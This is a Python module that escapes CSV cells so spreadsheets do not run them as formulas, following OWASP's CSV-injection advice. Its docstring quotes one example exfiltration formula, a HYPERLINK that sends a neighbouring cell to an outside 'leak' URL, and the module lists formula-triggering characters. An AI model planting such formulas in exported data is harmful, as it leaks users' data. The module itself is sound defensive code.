"""Tables written for spreadsheets: every CSV that the service or ``collate`` writes goes through
``csv_text``, so that no cell of one is run as a formula.

A spreadsheet that opens a CSV runs a cell beginning with ``=``, ``+``, ``-`` or ``@`` as a formula
(and some also one beginning with a tab or a carriage return), and labels come from manifests that
anyone may write: ``=HYPERLINK("http://.../leak?d="&A2, "Open folio")`` would send the next cell away
at a click. Such a cell gets a leading single quote, as OWASP advises ("CSV injection"): spreadsheets
show it as the text it was, and a reader sees the quote. The workbook (``.xlsx``) needs none: its
cells are typed, and text is never a formula there.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make a spreadsheet read a cell as a formula (OWASP's list)."""


def neutral_cell(value: Any) -> str:
    """A cell's text, with a single quote before it when it would start a formula; None is empty."""
    text = "" if value is None else str(value)
    return f"'{text}" if text.startswith(FORMULA_STARTS) else text


def csv_text(rows: Iterable[Iterable[Any]]) -> str:
    """Rows of cells as CSV (RFC 4180: CRLF line ends, quotes where needed), every cell neutral."""
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerows([neutral_cell(value) for value in row] for row in rows)
    return out.getvalue()
